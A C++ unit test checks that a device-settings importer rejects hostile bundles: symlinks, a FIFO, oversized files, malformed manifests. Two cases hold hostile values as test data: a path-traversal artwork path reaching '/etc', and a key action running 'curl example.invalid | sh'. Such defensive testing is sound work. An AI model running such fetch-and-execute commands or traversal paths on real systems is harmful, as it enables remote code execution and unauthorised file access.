#include "config/ConfigurationJson.h"
#include "config/DefaultConfiguration.h"
#include "config/SettingsArchive.h"
#include "model/Model.h"
#include "support/SettingsFiles.h"
#include "support/TestSupport.h"

#include "ImageSamples.h"

#include <QDir>

#include <nlohmann/json.hpp>

#include <gtest/gtest.h>

#include <sys/stat.h>

namespace {

// A bundle as a stranger could lay it out, without the checks that writing a bundle makes: a
// good archive with `edit` applied, its manifest with `pointer` set to the JSON `value` (or
// removed when `value` is empty), and then `disk` done to the folder.
struct HostileBundle {
    const char* name;
    std::function<void(SettingsArchive&)> edit;
    const char *pointer, *value;
    std::function<void(const QDir&, const QString& scene)> disk;
    QString expected;
};

void lay(const QString& path, const HostileBundle& bundle) {
    SettingsArchive archive;
    QuorvelScene scene = DefaultConfiguration::scene(DeviceKind::mountain);
    scene.keys[0].imagePath = SettingsArchive::imagePath(scene.id, 1);
    scene.keys[1].action = QStringLiteral("Mute");
    archive.scenes = {scene};
    archive.activeSceneID = scene.id;
    archive.images.insert(*scene.keys[0].imagePath, encoded(filled(16, 16, Qt::red), "png"));
    if (bundle.edit) {
        bundle.edit(archive);
    }
    nlohmann::json manifest = nlohmann::json::parse(archive.manifest().toStdString());
    if (*bundle.pointer) {
        const nlohmann::json::json_pointer at(bundle.pointer);
        *bundle.value ? void(manifest[at] = nlohmann::json::parse(bundle.value))
                      : void(manifest[at.parent_pointer()].erase(at.back()));
    }
    const QDir dir(path);
    writeBytes(dir.filePath("settings.json"), QByteArray::fromStdString(manifest.dump()));
    for (const QuorvelScene& each : archive.scenes) {
        dir.mkpath(SettingsArchive::scenePrefix(each.id));
    }
    for (auto image = archive.images.cbegin(); image != archive.images.cend(); ++image) {
        writeBytes(dir.filePath(image.key()), image.value());
    }
    if (bundle.disk) {
        bundle.disk(dir, SettingsArchive::scenePrefix(scene.id));
    }
}

// Moves `relative` out of the bundle and leaves a symbolic link to it in its place.
void linkOut(const QDir& dir, const QString& relative) {
    const QString outside = dir.absolutePath() + QStringLiteral(".outside");
    ASSERT_TRUE(QDir().rename(dir.filePath(relative), outside));
    ASSERT_TRUE(QFile::link(outside, dir.filePath(relative)));
}

}  // namespace

// Pictures are checked as any imported picture is.
TEST(SettingsImport, RefusesHostileBundlesAndLeavesTheDeviceAsItWas) {
    const QString invalid = SettingsArchive::invalidFileMessage();
    const QString links = SettingsArchive::symbolicLinkMessage();
    using Dir = const QDir&;
    using Scene = const QString&;
    using Archive = SettingsArchive&;
    std::vector<HostileBundle> bundles;
    const std::tuple<const char*, QString, std::function<void(Dir, Scene)>> onDisk[] = {
        {"linked manifest", links, [](Dir d, Scene) { linkOut(d, "settings.json"); }},
        {"linked scene folder", links, [](Dir d, Scene s) { linkOut(d, s); }},
        {"FIFO as picture", links,
         [](Dir d, Scene s) {
             QFile::remove(d.filePath(s + "/1.png"));
             ASSERT_EQ(::mkfifo(QFile::encodeName(d.filePath(s + "/1.png")).constData(), 0600), 0);
         }},
        {"40 MiB manifest and 30 MiB picture", SettingsArchive::oversizedMessage(),
         [](Dir d, Scene s) {
             auto m = nlohmann::json::parse(readFile(d.filePath("settings.json")).toStdString());
             m["padding"] = std::string(40 << 20, ' ');
             writeBytes(d.filePath("settings.json"), QByteArray::fromStdString(m.dump()));
             writeBytes(d.filePath(s + "/1.png"), QByteArray(30 << 20, 'x'));
         }},
        {"standalone file", "Open a .quorvel settings bundle, not a standalone file",
         [](Dir d, Scene) {
             QDir(d).removeRecursively();
             writeBytes(d.absolutePath(), "{}");
         }}};
    for (const auto& [name, expected, disk] : onDisk) {
        bundles.push_back({name, {}, "", "", disk, expected});
    }
    const std::tuple<const char*, QString, std::function<void(Archive)>> edited[] = {
        {"picture of another binding", "Invalid artwork path in settings bundle",
         [](Archive a) { a.scenes[0].keys[1].imagePath = a.scenes[0].keys[0].imagePath; }},
        {"parent folder in a path", "Invalid artwork path in settings bundle",
         [](Archive a) {
             a.scenes[0].backgroundPath =
                 SettingsArchive::scenePrefix(a.scenes[0].id) + "/../../../etc/background.png";
         }},
        {"257 scenes", invalid,
         [](Archive a) {
             for (int i = 0; i < 256; ++i) {
                 a.scenes.append(DefaultConfiguration::scene(DeviceKind::mountain));
             }
         }},
        {"truncated picture", "The image could not be decoded",
         [](Archive a) {
             const QByteArray png = encoded(filled(64, 64, Qt::blue), "png");
             a.images.first() = png.left(png.size() / 2);
         }},
        {"bundle for the other pad",
         "This file is for MSD-TWO; select that device before importing",
         [](Archive a) {
             a.kind = DeviceKind::msdTwo;
             a.scenes[0].keys = DefaultConfiguration::bindings(DeviceKind::msdTwo);
             a.images.clear();
         }},
        {"shell script without permission", Model::commandsRefusedMessage(1), [](Archive a) {
             a.scenes[0].keys[3].action = "Shell script";
             a.scenes[0].keys[3].argument = "curl example.invalid | sh";
         }}};
    for (const auto& [name, expected, edit] : edited) {
        bundles.push_back({name, edit, "", "", {}, expected});
    }
    // Manifests that break the format: a JSON pointer and its new value, "" removes it. The
    // scenes are read as the configuration file's are.
    const std::tuple<const char*, const char*> manifests[] = {{"/version", "1e60"},
                                                              {"/brightness", ""},
                                                              {"/scenes/0/keys/2/keyCode", "\"A\""},
                                                              {"/followMac", "\"yes\""}};
    for (const auto& [pointer, value] : manifests) {
        bundles.push_back({pointer, {}, pointer, value, {}, invalid});
    }

    SettingsRoot root;
    SavedConfiguration configured = DefaultConfiguration::configuration(DeviceKind::mountain);
    configured.scenes[0].keys[2].action = QStringLiteral("Mute");
    root.putScenes("mountain-01", configured);
    Model model("mountain-01", DeviceKind::mountain, "Pad", root.path());
    const QList<QuorvelScene> scenes = model.scenes();
    const QByteArray stored = readFile(model.configURL());
    for (const HostileBundle& bundle : bundles) {
        SCOPED_TRACE(bundle.name);
        const QString path =
            root.path() + "/" + QString(bundle.name).replace('/', '_') + ".quorvel";
        lay(path, bundle);
        std::optional<QString> outcome;
        model.importSettings(path, {Model::ImportMode::add, false},
                             [&](bool imported, const QString& message) {
                                 EXPECT_FALSE(imported);
                                 outcome = message;
                             });
        // Reading a 40 MiB manifest takes a minute in a sanitizer or coverage build on a busy
        // machine; only a failing wait reaches the deadline.
        ASSERT_TRUE(waitUntil([&] { return outcome.has_value(); }, std::chrono::seconds(180)));
        EXPECT_TRUE(bundle.expected == invalid ? outcome->startsWith(invalid)
                                               : *outcome == bundle.expected)
            << *outcome;
        EXPECT_EQ(model.message(), *outcome);
        EXPECT_EQ(model.scenes(), scenes);
        EXPECT_EQ(readFile(model.configURL()), stored);
        EXPECT_FALSE(QDir(model.imagesFolder()).exists());
    }
}
